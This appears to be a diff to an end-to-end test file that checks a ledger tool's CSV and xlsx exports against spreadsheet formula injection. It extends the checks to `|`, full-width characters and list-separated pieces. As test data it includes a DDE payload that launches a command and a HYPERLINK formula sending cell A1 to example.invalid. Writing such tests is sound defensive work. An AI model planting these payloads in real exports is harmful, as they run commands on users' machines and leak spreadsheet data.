@@ -1,9 +1,10 @@
 """Exports never carry a spreadsheet formula, and an exported 台账 still imports back as nothing new.
 
-Names, notes, codes and places that start with `=`, `+`, `-` or `@` (entered on the
-command line or imported) are exported on both stores as:
-- csv: text with a leading `'` (`'=1+1`), numbers as numbers; the importer drops
-  that `'` again;
+Names, notes, codes and places that start with `=`, `+`, `-`, `@`, `|` (or their
+full-width forms), or hold such a piece after a list separator (`x;=4+4`), entered on the
+command line or imported, are exported on both stores as:
+- csv: text with a leading `'` before each such piece (`'=1+1`, `x;'=4+4`), numbers as
+  numbers; the importer drops those marks again;
 - xlsx: string cells (never formulas) with Excel's quote prefix where they start
   like a formula, value unchanged; numbers and dates stay numbers and dates;
 - json: unchanged.
@@ -27,6 +28,8 @@ from tests.e2e.conftest import Cli, event_count
 NAME = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
 NOTES = ["=1+1", "'=1+1", "+1+1", "-2+3", "@SUM(A1)", "送米送油"]
+# A spreadsheet that splits CSV fields at `;` opens `x;=4+4` as two cells, the second a formula.
+NOTES += ["送米;=4+4", "慰问；+1+1、@SUM(A1)", "|calc", "cmd;|' /C calc'!A0", "a; -1+1", "＝1+1"]
 
 
 def hostile_store(cli: Cli) -> list[str]:
@@ -83,7 +86,8 @@ def test_csv_exports_quote_formula_text_and_keep_numbers(store: Cli, tmp_path: P
         header, body = lines[0], lines[1:]
         for line in body:
             for cell in line:
-                assert not cell.startswith(formulas.TRIGGERS), (query, cell)
+                for piece in formulas.pieces(cell):  # the cell and each part after a list separator
+                    assert not formulas.starts_like_formula(piece), (query, cell)
         if query[0] == "assess":
             continue  # its csv is the ranking table, not the JSON document's shape
         assert len(body) == len(rows), query
@@ -131,7 +135,7 @@ def test_xlsx_exports_hold_no_formula(store: Cli, tmp_path: Path, query: list[st
         texts = [c for c in cells if isinstance(c.value, str)]
         for cell in texts:
             assert cell.data_type == "s", (cell.coordinate, cell.value)
-            assert cell.quotePrefix == cell.value.startswith(formulas.TRIGGERS), (cell.coordinate, cell.value)
+            assert cell.quotePrefix == formulas.starts_like_formula(cell.value), (cell.coordinate, cell.value)
         if query[1] == "entries":
             values = {c.value for c in texts}
             assert {"=1+1", "'=1+1", "-2+3", "@SUM(A1)", LINK} <= values  # the value itself is unchanged
